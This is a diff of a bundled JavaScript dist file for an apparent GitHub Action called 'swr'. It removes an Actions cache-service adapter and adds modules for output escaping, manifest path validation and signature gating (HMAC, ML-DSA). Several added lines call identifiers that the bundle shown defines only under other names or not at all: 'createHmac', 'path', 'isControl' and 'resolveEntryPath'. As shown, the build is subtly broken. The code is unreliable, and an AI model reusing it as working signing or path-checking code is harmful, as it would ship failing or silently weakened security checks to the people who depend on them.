@@ -36579,7 +36579,7 @@ module.exports = {
 /***/ ((module, __unused_webpack___webpack_exports__, __nccwpck_require__) => {
 
 __nccwpck_require__.a(module, async (__webpack_handle_async_dependencies__, __webpack_async_result__) => { try {
-/* harmony import */ var _post_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(2598);
+/* harmony import */ var _post_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(5922);
 // The post step's entry: run, then end the process (HTTP clients can leave handles open).
 
 await (0,_post_js__WEBPACK_IMPORTED_MODULE_0__/* .post */ .bE)();
@@ -36590,7 +36590,7 @@ __webpack_async_result__();
 
 /***/ }),
 
-/***/ 2598:
+/***/ 5922:
 /***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
 
 
@@ -36612,259 +36612,6 @@ var external_node_path_ = __nccwpck_require__(6760);
 var external_node_path_default = /*#__PURE__*/__nccwpck_require__.n(external_node_path_);
 // EXTERNAL MODULE: external "node:crypto"
 var external_node_crypto_ = __nccwpck_require__(7598);
-;// CONCATENATED MODULE: ./src/adapters/cache-service.ts
-
-
-const SERVICE = 'github.actions.results.api.v1.CacheService';
-const VERSION_SALT = '1.0';
-/** The client's names for the compressions it writes (zstd is always without --long now). */
-const METHODS = [
-    ['zstd-without-long', 'zstd'],
-    ['gzip', 'gzip']
-];
-/** The cache version @actions/cache computes for `paths` saved with `method` (not on Windows). */
-function cacheVersion(paths, method) {
-    return (0,external_node_crypto_.createHash)('sha256')
-        .update([...paths, method, VERSION_SALT].join('|'))
-        .digest('hex');
-}
-/** How the archive names `abs`: relative to the job's workspace (the client's tar -C), POSIX. */
-function archivePrefix(abs, env) {
-    const ws = env.GITHUB_WORKSPACE || process.cwd();
-    return external_node_path_default().relative(ws, external_node_path_default().resolve(abs)).split((external_node_path_default()).sep).join('/') || '.';
-}
-/** The path spellings whose versions are asked for: absolute, then workspace-relative. */
-function pathForms(abs, env) {
-    const forms = [external_node_path_default().resolve(abs), archivePrefix(abs, env)];
-    return [...new Set(forms)];
-}
-function isGhes(env) {
-    const host = new URL(env.GITHUB_SERVER_URL || 'https://github.com').hostname.toUpperCase();
-    return !(host === 'GITHUB.COM' || host.endsWith('.GHE.COM') || host.endsWith('.LOCALHOST'));
-}
-/** Loaded on first use: most CLI commands never talk to the cache, and the client is large. */
-let httpModule;
-async function newHttpClient(...args) {
-    httpModule ??= Promise.resolve(/* import() */).then(__nccwpck_require__.bind(__nccwpck_require__, 4942));
-    return new (await httpModule).HttpClient(...args);
-}
-class CacheService {
-    env;
-    httpClient;
-    http() {
-        this.httpClient ??= newHttpClient('swr', [], { allowRetries: true, maxRetries: 2 });
-        return this.httpClient;
-    }
-    constructor(env) {
-        this.env = env;
-    }
-    get v2() {
-        return !isGhes(this.env) && Boolean(this.env.ACTIONS_CACHE_SERVICE_V2);
-    }
-    auth() {
-        return { Authorization: `Bearer ${this.env.ACTIONS_RUNTIME_TOKEN ?? ''}` };
-    }
-    /** One lookup of `keys` under one version; undefined on a miss. Throws when unreachable. */
-    async ask(key, restoreKeys, version) {
-        if (this.v2) {
-            const base = this.env.ACTIONS_RESULTS_URL ?? '';
-            const url = new URL(`/twirp/${SERVICE}/GetCacheEntryDownloadURL`, base).href;
-            const res = await (await this.http()).post(url, JSON.stringify({ key, restore_keys: restoreKeys, version }), {
-                ...this.auth(),
-                'Content-Type': 'application/json',
-                Accept: 'application/json'
-            });
-            const body = await res.readBody();
-            if (res.message.statusCode !== 200)
-                throw new Error(`cache service answered ${res.message.statusCode ?? '?'}`);
-            const r = JSON.parse(body);
-            return r.ok && r.signed_download_url && r.matched_key
-                ? { matchedKey: r.matched_key, url: r.signed_download_url }
-                : undefined;
-        }
-        const base = this.env.ACTIONS_CACHE_URL || this.env.ACTIONS_RESULTS_URL || '';
-        const q = `keys=${encodeURIComponent([key, ...restoreKeys].join(','))}&version=${version}`;
-        const res = await (await this.http()).get(new URL(`_apis/artifactcache/cache?${q}`, base).href, {
-            ...this.auth(),
-            Accept: 'application/json;api-version=6.0-preview.1'
-        });
-        const body = await res.readBody();
-        if (res.message.statusCode === 204)
-            return undefined;
-        if (res.message.statusCode !== 200)
-            throw new Error(`cache service answered ${res.message.statusCode ?? '?'}`);
-        const r = JSON.parse(body);
-        return r.cacheKey && r.archiveLocation
-            ? { matchedKey: r.cacheKey, url: r.archiveLocation }
-            : undefined;
-    }
-    /** The newest archive for `key` (or a restore-keys prefix) under any spelling of `abs`. */
-    async find(abs, key, restoreKeys) {
-        const prefix = archivePrefix(abs, this.env);
-        for (const [method, compression] of METHODS) {
-            for (const form of pathForms(abs, this.env)) {
-                const found = await this.ask(key, restoreKeys, cacheVersion([form], method));
-                if (!found)
-                    continue;
-                return {
-                    matchedKey: found.matchedKey,
-                    exact: found.matchedKey === key,
-                    compression,
-                    prefix,
-                    open: () => this.download(found.url)
-                };
-            }
-        }
-        return undefined;
-    }
-    async download(url) {
-        // A signed URL: no token sent to storage, and the URL itself never printed.
-        const res = await (await newHttpClient('swr')).get(url);
-        const status = res.message.statusCode ?? 0;
-        if (status !== 200) {
-            res.message.resume();
-            throw new Error(`the archive download answered ${status}`);
-        }
-        return res.message;
-    }
-}
-
-;// CONCATENATED MODULE: ./src/adapters/actions-cache.ts
-/**
- * The real Actions cache behind the engine's CacheClient port, for the Action and for the CLI on a
- * runner. Restores never go through @actions/cache's restoreCache (it extracts with `tar -P` into
- * the workspace): cache-service.ts finds and streams the archive and the engine unpacks it. The
- * client is loaded only to save and to look up, with a private temp directory when RUNNER_TEMP is
- * unset and its workflow commands kept off a terminal.
- */
-
-
-
-
-/** The cache service is reachable from this process (v2 results service, or the v1 cache URL). */
-function cacheServiceAvailable(env) {
-    return Boolean(env.ACTIONS_RUNTIME_TOKEN && (env.ACTIONS_RESULTS_URL || env.ACTIONS_CACHE_URL));
-}
-/** Saves are off in read-only cache mode (ACTIONS_CACHE_MODE=read, or none). */
-function cacheReadOnly(env) {
-    return env.ACTIONS_CACHE_MODE === 'read' || env.ACTIONS_CACHE_MODE === 'none';
-}
-/** The same client, calling `before` ahead of every request (the Action closes its log shield). */
-function withBefore(client, before) {
-    return {
-        find: (abs, key, restoreKeys) => (before(), client.find(abs, key, restoreKeys)),
-        lookup: (abs, key) => (before(), client.lookup(abs, key)),
-        save: (abs, key) => (before(), client.save(abs, key))
-    };
-}
-/** A workflow command's message as written (%25, %0D, %0A decoded), on one line. */
-function unescapeCommand(msg) {
-    return msg
-        .replace(/%0D|%0A/gi, ' ')
-        .replace(/%25/g, '%')
-        .trim();
-}
-let loaded;
-async function client() {
-    loaded ??= await __nccwpck_require__.e(/* import() */ 641).then(__nccwpck_require__.bind(__nccwpck_require__, 2641));
-    return loaded;
-}
-function actionsCacheClient(opts) {
-    // Absolute paths: the client resolves relative ones against the process's cwd but archives them
-    // relative to GITHUB_WORKSPACE, and the cache version hashes the path strings as given.
-    const spell = (abs) => external_node_path_default().resolve(abs);
-    const onRunner = opts.env.GITHUB_ACTIONS === 'true';
-    const quietly = async (fn) => {
-        // The client reads RUNNER_TEMP from process.env and falls back to /home/actions/temp.
-        const temp = process.env.RUNNER_TEMP
-            ? undefined
-            : external_node_fs_default().mkdtempSync(external_node_path_default().join(external_node_os_default().tmpdir(), 'swr-cache-'));
-        if (temp)
-            process.env.RUNNER_TEMP = temp;
-        try {
-            return await muted(fn);
-        }
-        finally {
-            if (temp) {
-                delete process.env.RUNNER_TEMP;
-                external_node_fs_default().rmSync(temp, { recursive: true, force: true });
-            }
-        }
-    };
-    const muted = async (fn) => {
-        if (!opts.logToStderr)
-            return fn();
-        const write = process.stdout.write.bind(process.stdout);
-        const stderrWrite = process.stderr.write.bind(process.stderr);
-        // The client's debug lines only matter when the runner asks for them (RUNNER_DEBUG=1).
-        const debug = opts.env.RUNNER_DEBUG === '1';
-        process.stdout.write = ((chunk) => {
-            const text = typeof chunk === 'string' ? chunk : Buffer.from(chunk).toString('utf8');
-            if (!onRunner) {
-                // A terminal gets swr's own line for what the client warns about, no workflow commands.
-                for (const m of text.matchAll(/^::(?:warning|error)[^:]*::(.*)$/gm))
-                    opts.onNote?.(`cache: ${unescapeCommand(m[1] ?? '')}`);
-                return true;
-            }
-            const kept = debug
-                ? text
-                : text
-                    .split(/(?<=\n)/)
-                    .filter(l => !l.startsWith('::debug::'))
-                    .join('');
-            return kept ? stderrWrite(kept) : true;
-        });
-        try {
-            return await fn();
-        }
-        finally {
-            process.stdout.write = write;
-        }
-    };
-    const service = new CacheService(opts.env);
-    const note = (what, err) => opts.onNote?.(`cache ${what}: ${err instanceof Error ? err.message : String(err)}`);
-    return {
-        async find(abs, key, restoreKeys) {
-            try {
-                return await service.find(abs, key, restoreKeys);
-            }
-            catch (err) {
-                note(`restore of ${key} failed`, err);
-                return undefined;
-            }
-        },
-        async lookup(abs, key) {
-            try {
-                const cache = await client();
-                return ((await quietly(() => cache.restoreCache([spell(abs)], key, [], { lookupOnly: true }))) ===
-                    key);
-            }
-            catch (err) {
-                note(`lookup of ${key} failed`, err);
-                return false;
-            }
-        },
-        async save(abs, key) {
-            try {
-                const cache = await client();
-                // The client reports "already exists" and "unreachable" alike (-1): ask first.
-                const existing = await quietly(() => cache.restoreCache([spell(abs)], key, [], { lookupOnly: true }));
-                if (existing === key)
-                    return 'exists';
-                const id = await quietly(() => cache.saveCache([spell(abs)], key));
-                return id === -1 ? 'failed' : 'saved';
-            }
-            catch (err) {
-                const name = err instanceof Error ? err.name : '';
-                if (name === 'ReserveCacheError' || /already exists/i.test(String(err)))
-                    return 'exists';
-                note(`save of ${key} failed`, err);
-                return 'failed';
-            }
-        }
-    };
-}
-
 ;// CONCATENATED MODULE: ./node_modules/canonicalize/lib/canonicalize.js
 function hasLoneSurrogate (value) {
   for (let i = 0; i < value.length; i++) {
@@ -36985,7 +36732,7 @@ class errors_UsageError extends errors_SwrError {
     }
 }
 /** A bug: the shells print it with a request to report it. */
-class InternalError extends Error {
+class errors_InternalError extends Error {
     constructor(message) {
         super(message);
         this.name = 'InternalError';
@@ -37027,15 +36774,187 @@ function errors_errnoCode(err) {
 
 
 /** RFC 8785 bytes of `value`. */
-function canonicalBytes(value) {
+function canonical_canonicalBytes(value) {
     const text = canonicalize(value);
     if (text === undefined)
-        throw new InternalError('value has no canonical JSON form');
+        throw new errors_InternalError('value has no canonical JSON form');
     return Buffer.from(text, 'utf8');
 }
 /** sha256 (hex) of the canonical body: the manifest digest shown to people and used as cache key. */
-function manifestDigest(body) {
-    return (0,external_node_crypto_.createHash)('sha256').update(canonicalBytes(body)).digest('hex');
+function canonical_manifestDigest(body) {
+    return (0,external_node_crypto_.createHash)('sha256').update(canonical_canonicalBytes(body)).digest('hex');
+}
+
+;// CONCATENATED MODULE: ./src/core/report/escape.ts
+/**
+ * Rendering an untrusted string (a file name, link target, manifest id, path or note, recipe
+ * text) as part of ONE line of output. Whoever wrote the workspace or the manifest chose these
+ * bytes: printed raw, a newline starts a line of their choosing (a workflow command in the
+ * Action's log, a fake `OK` line in a terminal), ESC or CSI rewrites the screen, and bidi controls
+ * reorder what the reader sees. Every printer passes such strings through `escapeText`.
+ */
+/** Bidi controls: they make text display in another order than it is stored. */
+const BIDI = new Set([
+    0x061c, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069
+]);
+const NAMED = { 0x09: '\\t', 0x0a: '\\n', 0x0d: '\\r' };
+/** The default bound for a manifest string quoted in an error line. */
+const QUOTE_MAX = 200;
+/** True for C0, DEL, C1 and bidi controls: the characters no single line may carry raw. */
+function escape_isControl(code) {
+    return code <= 0x1f || (code >= 0x7f && code <= 0x9f) || BIDI.has(code);
+}
+function hex(code, width) {
+    return code.toString(16).padStart(width, '0');
+}
+function visible(code) {
+    if (NAMED[code])
+        return NAMED[code];
+    if (code <= 0xff && escape_isControl(code))
+        return `\\x${hex(code, 2)}`;
+    if (BIDI.has(code))
+        return `\\u${hex(code, 4)}`;
+    return undefined;
+}
+/**
+ * A byte of a file name that is not UTF-8 travels as the lone surrogate U+DC00+byte (see
+ * verify/byte-names.mjs); shown as `\xNN`, like the name's other unprintable bytes. Half of a real
+ * surrogate pair is left alone.
+ */
+function byteMarker(s, i) {
+    const code = s.charCodeAt(i);
+    if (code < 0xdc80 || code > 0xdcff)
+        return undefined;
+    const prev = i > 0 ? s.charCodeAt(i - 1) : 0;
+    if (prev >= 0xd800 && prev <= 0xdbff)
+        return undefined;
+    return `\\x${hex(code - 0xdc00, 2)}`;
+}
+/**
+ * `s` with every control, DEL, C1 and bidi control shown as a visible escape (`\n`, `\x1b`,
+ * `\u202e`), so the result never breaks or rewrites a line. With `max`, a longer result is cut and
+ * ends with `…[+N chars]`. Idempotent: escaping twice changes nothing, so a line
+ * built from escaped parts may be escaped again by the printer.
+ */
+function escape_escapeText(s, opts = {}) {
+    const max = opts.max ?? Number.POSITIVE_INFINITY;
+    let out = '';
+    let i = 0;
+    for (; i < s.length; i++) {
+        const code = s.charCodeAt(i);
+        const piece = visible(code) ?? byteMarker(s, i) ?? s.charAt(i);
+        if (out.length + piece.length > max)
+            break;
+        out += piece;
+    }
+    if (i >= s.length)
+        return out;
+    // Never leave half a surrogate pair at the cut.
+    const last = out.charCodeAt(out.length - 1);
+    if (last >= 0xd800 && last <= 0xdbff) {
+        out = out.slice(0, -1);
+        i--;
+    }
+    return `${out}…[+${s.length - i} chars]`;
+}
+/** A manifest string quoted in a message: escaped, bounded, in double quotes. */
+function quoted(s, max = QUOTE_MAX) {
+    return `"${escape_escapeText(s, { max })}"`;
+}
+/**
+ * `escapeText`, then the characters Markdown and HTML act on backslash-escaped (CommonMark lets
+ * any ASCII punctuation be): in a job summary an untrusted string stays literal text, never a
+ * table cell, link, image, emphasis, code span or HTML.
+ */
+function escape_escapeMarkdown(s, opts = {}) {
+    return escape_escapeText(s, opts).replace(/[\\`*_[\]<>&|~!#]/g, '\\$&');
+}
+/**
+ * An untrusted string as a Markdown code span: nothing inside is interpreted, so only a backtick
+ * (which would close the span, shown as `\x60`) and `|` (which GitHub's tables split cells on even
+ * there, written `\|`) need care.
+ */
+function escape_markdownCode(s, opts = {}) {
+    return '`' + escape_escapeText(s, opts).replace(/`/g, '\\x60').replace(/\|/g, '\\|') + '`';
+}
+
+;// CONCATENATED MODULE: ./src/core/manifest/paths.ts
+/**
+ * Path rules for manifests: every entry path is workspace-relative POSIX, normalised, NFC, and
+ * cannot leave the workspace. One spelling per path, so two entries can't name one file twice.
+ */
+
+
+const paths_ENTRY_ID = /^[A-Za-z0-9._-]{1,128}$/;
+const MAX_PATH = 4096;
+/** Why `p` is not an acceptable manifest path, or undefined when it is. "." means the workspace. */
+function paths_pathProblem(p) {
+    if (p === '.')
+        return undefined;
+    if (p.length === 0)
+        return 'is empty';
+    if (p.length > MAX_PATH)
+        return `is longer than ${MAX_PATH} characters`;
+    if (p.includes('\0'))
+        return 'contains a NUL byte';
+    if (!p.isWellFormed() || p.normalize('NFC') !== p)
+        return 'is not NFC-normalised Unicode';
+    if (p.startsWith('/'))
+        return 'is absolute; manifest paths are relative to the workspace';
+    for (const seg of p.split('/')) {
+        if (seg === '')
+            return 'has an empty segment (double or trailing slash)';
+        if (seg === '..')
+            return 'escapes the workspace with ".."';
+        if (seg === '.')
+            return 'has a "." segment; write it without';
+    }
+    return undefined;
+}
+/**
+ * Turn what a user typed (relative to `cwd`, or absolute) into the manifest spelling relative to
+ * `workspace`. Returns an error string when the path is outside the workspace.
+ */
+function toManifestPath(input, cwd, workspace) {
+    const abs = path.resolve(cwd, input.normalize('NFC'));
+    const rel = path.relative(workspace, abs);
+    if (rel === '')
+        return { ok: true, path: '.' };
+    if (rel === '..' || rel.startsWith('../') || path.isAbsolute(rel)) {
+        return { ok: false, why: `${input} is outside the workspace ${workspace}` };
+    }
+    const spelled = rel.split(path.sep).join('/');
+    const problem = paths_pathProblem(spelled) ?? controlProblem(spelled);
+    return problem ? { ok: false, why: `${input} ${problem}` } : { ok: true, path: spelled };
+}
+/**
+ * A manifest path is printed on lines of output, so the loader refuses one holding a control or
+ * bidi character; a path typed to `add` is refused the same way before anything is written.
+ */
+function controlProblem(p) {
+    for (let i = 0; i < p.length; i++) {
+        const c = p.charCodeAt(i);
+        if (isControl(c))
+            return `contains a control character (U+${c.toString(16).toUpperCase().padStart(4, '0')}): rename it to track it`;
+    }
+    return undefined;
+}
+/** True when `abs` is `root` or below it (both already absolute and normalised). */
+function paths_isInside(root, abs) {
+    if (abs === root)
+        return true;
+    const base = root.endsWith('/') ? root : `${root}/`;
+    return abs.startsWith(base);
+}
+/** Absolute location of a validated manifest path. */
+function paths_resolveEntryPath(workspace, rel) {
+    return rel === '.' ? workspace : external_node_path_default().join(workspace, rel);
+}
+/** Why a sentinel or other tree-relative path is unacceptable (same rules, "." refused). */
+function paths_innerPathProblem(p) {
+    if (p === '.')
+        return 'names the tree itself';
+    return paths_pathProblem(p);
 }
 
 ;// CONCATENATED MODULE: ./src/core/cache-port.ts
@@ -37043,18 +36962,784 @@ function manifestDigest(body) {
  * The Actions cache as a restore source, seen from the engine: a port the shells fill with the
  * real cache service when it is reachable. The port only finds and streams an archive; it never
  * unpacks one. The engine extracts it itself into a private scratch directory, proves it against
- * the signed manifest while extracting, and only then places it (see cache-restore/), so a
+ * the signed manifest while extracting, and only then places it (see restore/cache/), so a
  * partial, stale or poisoned cache can neither pass for the recorded state nor write anywhere.
  */
+
 
 
 /**
  * The key under which an entry's verified state is saved: its id plus the digest of its signed
  * expectations. Another state of the entry (or another manifest's entry) has another key.
  */
-function stateKey(e) {
-    const digest = (0,external_node_crypto_.createHash)('sha256').update(canonicalBytes(e)).digest('hex');
+function cache_port_stateKey(e) {
+    const digest = (0,external_node_crypto_.createHash)('sha256').update(canonical_canonicalBytes(e)).digest('hex');
     return `swr-v1-${e.id}-${digest.slice(0, 32)}`;
+}
+/** Which entries have a cache saved for exactly their expected state (no download). */
+async function cache_port_lookupSavedStates(m, entries, cache) {
+    const out = [];
+    for (const e of entries) {
+        const key = cache_port_stateKey(e);
+        out.push({
+            id: e.id,
+            key,
+            available: await cache.lookup(resolveEntryPath(m.workspace, e.path), key)
+        });
+    }
+    return out;
+}
+
+// EXTERNAL MODULE: ./node_modules/picomatch/index.js
+var node_modules_picomatch = __nccwpck_require__(4006);
+var picomatch_default = /*#__PURE__*/__nccwpck_require__.n(node_modules_picomatch);
+;// CONCATENATED MODULE: ./src/core/sign/envelope.ts
+/**
+ * What a signature signs. Signatures never live inside the bytes they sign: the signing input is
+ * DSSE's pre-authentication encoding of the canonical (RFC 8785) body, which binds the payload
+ * type, and with it the manifest format and the signature-format version:
+ *   "DSSEv1" SP len(type) SP type SP len(body) SP body
+ */
+
+const PAYLOAD_TYPE = 'application/vnd.swr.manifest.v3+json';
+/** DSSE pre-authentication encoding of `payload` under `type`. */
+function pae(type, payload) {
+    const t = Buffer.from(type, 'utf8');
+    const head = Buffer.from(`DSSEv1 ${t.length} ${type} ${payload.length} `, 'utf8');
+    return Buffer.concat([head, payload]);
+}
+/** The exact bytes every manifest signature covers. */
+function envelope_signingInput(body, type = PAYLOAD_TYPE) {
+    return pae(type, canonical_canonicalBytes(body));
+}
+
+;// CONCATENATED MODULE: ./src/core/sign/hmac.ts
+/**
+ * HMAC-SHA256 signatures: "this machine approved it". Anyone who can verify can forge, so HMAC
+ * alone never authorises recipes in CI unless the workflow asks for exactly that. The key comes
+ * from SWR_HMAC_KEY, a 0600 key file in the private state directory, or a secret action input:
+ * never from the workspace. Comparison is constant-time.
+ */
+
+/** Short, non-secret identifier of a key (shown to tell "other key" from "tampered"). */
+function hmacKeyId(key) {
+    return (0,external_node_crypto_.createHash)('sha256').update('swr-hmac-keyid\0').update(key).digest('hex').slice(0, 16);
+}
+function hmac_signHmac(key, input) {
+    return {
+        alg: 'hmac-sha256',
+        keyid: hmacKeyId(key),
+        sig: createHmac('sha256', key).update(input).digest('hex')
+    };
+}
+function verifyHmac(key, input, sig) {
+    if (!/^[0-9a-f]{64}$/.test(sig.sig))
+        return false;
+    const want = (0,external_node_crypto_.createHmac)('sha256', key).update(input).digest();
+    return (0,external_node_crypto_.timingSafeEqual)(want, Buffer.from(sig.sig, 'hex'));
+}
+/** Key bytes from the text of SWR_HMAC_KEY or a key file: 64 hex digits, or at least 32 characters. */
+function parseHmacKey(text) {
+    const t = text.trim();
+    if (/^[0-9a-fA-F]{64}$/.test(t))
+        return Buffer.from(t, 'hex');
+    if (t.length >= 32)
+        return Buffer.from(t, 'utf8');
+    return undefined;
+}
+
+;// CONCATENATED MODULE: ./src/core/sign/mldsa.ts
+/**
+ * ML-DSA-87 (FIPS 204) signatures with @noble/post-quantum (audited only by its authors: say so
+ * when it matters). The module is loaded on first use, so checking an unsigned or HMAC-only
+ * manifest never pays for it. The public key travels with the signature; its fingerprint is always
+ * recomputed from the key, never read from the document.
+ */
+
+/** Domain separation: a signature made for another swr purpose never verifies as a manifest's. */
+const CONTEXT = new TextEncoder().encode('swr/manifest-signature/v1');
+const PUBLIC_KEY_BYTES = 2592;
+const SIGNATURE_BYTES = 4627;
+let loaded;
+async function mldsa() {
+    loaded ??= (await __nccwpck_require__.e(/* import() */ 925).then(__nccwpck_require__.bind(__nccwpck_require__, 4925))).ml_dsa87;
+    return loaded;
+}
+/** Full SHA-256 over the algorithm name, a zero byte and the raw public key (hex). */
+function fingerprint(publicKey) {
+    return (0,external_node_crypto_.createHash)('sha256').update('ml-dsa-87\0').update(publicKey).digest('hex');
+}
+/** "ab12 cd34 ..." for people; `normalizeFingerprint` reads any spacing or case back. */
+function groupFingerprint(fp) {
+    return fp.match(/.{1,4}/g)?.join(' ') ?? fp;
+}
+function mldsa_normalizeFingerprint(text) {
+    const t = text.replace(/[\s:-]/g, '').toLowerCase();
+    return /^[0-9a-f]{64}$/.test(t) ? t : undefined;
+}
+async function mldsa_identityFromSeed(seed) {
+    const { publicKey, secretKey } = (await mldsa()).keygen(seed);
+    return { publicKey, secretKey, fingerprint: fingerprint(publicKey) };
+}
+async function mldsa_signMldsa(id, input) {
+    const sig = (await mldsa()).sign(input, id.secretKey, { context: CONTEXT });
+    return {
+        alg: 'ml-dsa-87',
+        keyid: id.fingerprint,
+        public_key: Buffer.from(id.publicKey).toString('base64'),
+        sig: Buffer.from(sig).toString('base64')
+    };
+}
+/** Decoded key and signature, or undefined when either is malformed (never throws). */
+function decodeMldsa(s) {
+    const b64 = /^[A-Za-z0-9+/]+={0,2}$/;
+    if (!b64.test(s.public_key) || !b64.test(s.sig))
+        return undefined;
+    const publicKey = Buffer.from(s.public_key, 'base64');
+    const sig = Buffer.from(s.sig, 'base64');
+    if (publicKey.length !== PUBLIC_KEY_BYTES || sig.length !== SIGNATURE_BYTES)
+        return undefined;
+    return { publicKey, sig };
+}
+async function verifyMldsa(publicKey, input, sig) {
+    try {
+        return (await mldsa()).verify(sig, input, publicKey, { context: CONTEXT });
+    }
+    catch {
+        return false;
+    }
+}
+
+;// CONCATENATED MODULE: ./src/core/sign/gate.ts
+/**
+ * The gate: the one function that decides whether a manifest's code (restore recipes, smoke
+ * commands, exported scripts) may run. Every path that executes manifest content asks it first.
+ *
+ *   expiry -> scope -> rollback floor -> signatures (per the required kinds) -> allowed
+ *
+ * Cheap refusals come first; ML-DSA is loaded only when a signature of that kind must be checked.
+ * `Defenses` exists so the attack suite can switch each defence off and show that it matters; the
+ * shells never pass anything but the default.
+ */
+
+
+
+
+
+const REQUIREMENTS = ['any', 'hmac', 'mldsa', 'both'];
+const gate_ALL_DEFENSES = Object.freeze({
+    signatures: true,
+    trust: true,
+    fingerprintFromKey: true,
+    payloadType: true,
+    expiry: true,
+    scope: true,
+    rollback: true
+});
+/** What the gate reads of a loaded manifest. */
+function gate_gateInput(m) {
+    return { body: m.body, signatures: m.doc.signatures, digest: m.digest };
+}
+/** Each signature's state under `policy` (no decision). */
+async function evaluateSignatures(m, policy, defenses = gate_ALL_DEFENSES) {
+    const raw = defenses.payloadType ? envelope_signingInput(m.body, PAYLOAD_TYPE) : canonical_canonicalBytes(m.body);
+    const out = [];
+    for (const s of m.signatures) {
+        if (s.alg === 'hmac-sha256') {
+            if (!policy.hmacKey)
+                out.push({ alg: s.alg, keyid: s.keyid, state: 'no-key' });
+            else {
+                const ok = !defenses.signatures || verifyHmac(policy.hmacKey, raw, s);
+                out.push({ alg: s.alg, keyid: s.keyid, state: ok ? 'valid' : 'invalid' });
+            }
+            continue;
+        }
+        const decoded = decodeMldsa(s);
+        if (!decoded) {
+            out.push({ alg: s.alg, keyid: s.keyid, state: 'invalid' });
+            continue;
+        }
+        const fp = defenses.fingerprintFromKey ? fingerprint(decoded.publicKey) : s.keyid;
+        const ok = !defenses.signatures || (await verifyMldsa(decoded.publicKey, raw, decoded.sig));
+        const trusted = !defenses.trust || policy.trusted.has(fp);
+        out.push({
+            alg: s.alg,
+            keyid: s.keyid,
+            fingerprint: fp,
+            state: !ok ? 'invalid' : trusted ? 'valid' : 'untrusted'
+        });
+    }
+    return out;
+}
+/** May this manifest's code run? */
+async function gate_decide(m, policy, defenses = gate_ALL_DEFENSES) {
+    const refuse = (reason, signatures = []) => ({
+        allowed: false,
+        reason,
+        signatures,
+        warnings: []
+    });
+    const body = m.body;
+    if (defenses.expiry &&
+        body.expires !== undefined &&
+        !(Date.parse(body.expires) > policy.now.getTime()) // an unreadable date fails closed
+    ) {
+        return refuse(`manifest expired at ${body.expires}`);
+    }
+    if (defenses.scope) {
+        const scopeProblem = checkScope(body, policy.run);
+        if (scopeProblem)
+            return refuse(scopeProblem);
+    }
+    if (defenses.rollback) {
+        const rollback = checkRollback(body.version, m.digest, policy);
+        if (rollback)
+            return refuse(rollback);
+    }
+    if (policy.waiveDigest !== undefined) {
+        if (policy.waiveDigest.toLowerCase() !== m.digest) {
+            return refuse(`--i-trust-this-manifest names another digest than the manifest's`);
+        }
+        return {
+            allowed: true,
+            reason: 'signature requirement waived for this exact digest',
+            signatures: await evaluateSignatures(m, policy, defenses),
+            warnings: [`signature requirement waived by --i-trust-this-manifest for digest ${m.digest}`]
+        };
+    }
+    // HMAC first: it is cheap, and with require=both a missing HMAC spares the ML-DSA load.
+    const states = await evaluateSignatures(m, policy, defenses);
+    const hmacOk = states.some(s => s.alg === 'hmac-sha256' && s.state === 'valid');
+    const signers = new Set(states.filter(s => s.alg === 'ml-dsa-87' && s.state === 'valid').map(s => s.fingerprint));
+    const threshold = policy.threshold ?? 1;
+    const mldsaOk = signers.size >= threshold;
+    const need = describeNeed(policy.require, threshold);
+    const ok = policy.require === 'any'
+        ? hmacOk || mldsaOk
+        : policy.require === 'hmac'
+            ? hmacOk
+            : policy.require === 'mldsa'
+                ? mldsaOk
+                : hmacOk && mldsaOk;
+    if (!ok)
+        return refuse(`${summarise(states, policy)}; ${need} required`, states);
+    const by = [
+        hmacOk ? 'HMAC' : '',
+        mldsaOk ? `${signers.size} trusted ML-DSA signer(s)` : ''
+    ].filter(Boolean);
+    return { allowed: true, reason: `signed: ${by.join(' and ')}`, signatures: states, warnings: [] };
+}
+function describeNeed(r, threshold) {
+    const ml = threshold > 1 ? `${threshold} distinct trusted ML-DSA signers` : 'a trusted ML-DSA signature';
+    switch (r) {
+        case 'any':
+            return `a valid HMAC or ${ml}`;
+        case 'hmac':
+            return 'a valid HMAC signature';
+        case 'mldsa':
+            return ml;
+        case 'both':
+            return `a valid HMAC and ${ml}`;
+    }
+}
+function summarise(states, policy) {
+    if (states.length === 0)
+        return 'manifest is unsigned';
+    const parts = states.map(s => {
+        const who = s.alg === 'hmac-sha256'
+            ? 'HMAC'
+            : `ML-DSA ${s.fingerprint?.slice(0, 16) ?? s.keyid.slice(0, 16)}`;
+        if (s.state === 'no-key')
+            return `${who}: no HMAC key on this run`;
+        if (s.state === 'invalid' &&
+            s.alg === 'hmac-sha256' &&
+            policy.hmacKey &&
+            s.keyid !== hmacKeyId(policy.hmacKey)) {
+            return `${who}: made with another key`;
+        }
+        return `${who}: ${s.state === 'untrusted' ? 'untrusted signer' : s.state}`;
+    });
+    return parts.join(', ');
+}
+function checkScope(body, run) {
+    const scope = body.scope;
+    if (!scope)
+        return undefined;
+    if (scope.repository !== undefined &&
+        scope.repository.toLowerCase() !== (run.repository ?? '').toLowerCase()) {
+        return `manifest is scoped to repository ${scope.repository}, this run is ${run.repository ?? 'outside any repository (GITHUB_REPOSITORY unset)'}`;
+    }
+    if (scope.ref !== undefined &&
+        !(run.ref !== undefined && picomatch_default().isMatch(run.ref, scope.ref, { dot: true }))) {
+        return `manifest is scoped to ref ${scope.ref}, this run is ${run.ref ?? 'on no ref (GITHUB_REF unset)'}`;
+    }
+    if (scope.manifest_path !== undefined && scope.manifest_path !== run.manifestPath) {
+        return `manifest is scoped to path ${scope.manifest_path}, it was read from ${run.manifestPath ?? 'outside the workspace'}`;
+    }
+    return undefined;
+}
+function checkRollback(version, digest, policy) {
+    if (policy.minVersion !== undefined && version < policy.minVersion) {
+        return `manifest version ${version} is below the floor ${policy.minVersion} (a rollback to an older manifest?)`;
+    }
+    const r = policy.remembered;
+    if (r && version < r.version) {
+        return `manifest version ${version} is older than version ${r.version} already accepted here (a rollback?)`;
+    }
+    if (r && version === r.version && digest !== r.digest) {
+        return `manifest version ${version} was accepted here with another digest: the same version must not change`;
+    }
+    return undefined;
+}
+
+;// CONCATENATED MODULE: external "node:child_process"
+const external_node_child_process_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:child_process");
+;// CONCATENATED MODULE: ./src/core/run/escaped.ts
+/**
+ * Finding the processes a recipe started that left its process group (`setsid`, a daemonizing
